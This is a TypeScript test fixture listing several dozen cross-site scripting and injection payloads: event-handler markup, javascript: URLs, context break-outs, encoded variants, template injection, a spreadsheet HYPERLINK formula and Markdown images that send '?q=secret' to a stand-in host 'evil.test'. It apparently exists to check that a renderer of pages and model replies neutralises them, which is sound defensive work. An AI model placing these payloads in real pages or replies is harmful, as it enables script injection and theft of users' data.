/** Address that a payload requests when it runs or loads something; must never be requested. */
const away = 'https://evil.test';
/** Code of a payload: marks the page, and requests an external address. */
const run = `document.documentElement.dataset.ran=1;fetch('${away}/ran')`;

/** Texts in a page, file name, model reply or JSON value that try to run or load something in the page that shows them. */
export const hostilePayloads = [
  // Markup that runs.
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<body onload="${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<details open ontoggle="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<marquee onstart="${run}">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<template><script>${run}</script></template>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button autofocus>`,
  `<a href="javascript:${run}" id=x>click</a>`,
  `<base href="${away}/">`,
  `<div style="animation:x" onanimationstart="${run}">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  // Breaking out of the surrounding context.
  `"><script>${run}</script>`,
  `'-${run}-'`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  '\\u003cscript\\u003edocument.documentElement.dataset.ran=1\\u003c/script\\u003e',
  `&lt;img src=x onerror=${run}&gt;`,
  '&#60;script&#62;document.documentElement.dataset.ran=1&#60;/script&#62;',
  '%3Cscript%3Edocument.documentElement.dataset.ran=1%3C/script%3E',
  `\${document.documentElement.dataset.ran=1}`,
  '{{constructor.constructor("document.documentElement.dataset.ran=1")()}}',
  // Markup that loads.
  `<img src="${away}/img">`,
  `<img srcset="${away}/srcset 2x">`,
  `<link rel=stylesheet href="${away}/css">`,
  `<style>@import '${away}/import'; * { background: url(${away}/background) }</style>`,
  `<meta http-equiv=refresh content="0;url=${away}/refresh">`,
  `<video poster="${away}/poster"></video>`,
  // Markdown, as models write it.
  `![x](${away}/?q=secret)`,
  `![x][ref]\n\n[ref]: ${away}/?q=secret`,
  `[click](javascript:${run})`,
  `[click](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC5kb2N1bWVudEVsZW1lbnQuZGF0YXNldC5yYW49MTwvc2NyaXB0Pg==)`,
  `<${away}/autolink>`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  // Other formats, and look-alike characters.
  `javascript:${run}`,
  `=HYPERLINK("${away}/csv","x")`,
  '__proto__',
  `\u202e<script>${run}</script>\u202c`,
  `\u2028<script>${run}</script>`,
] as const;
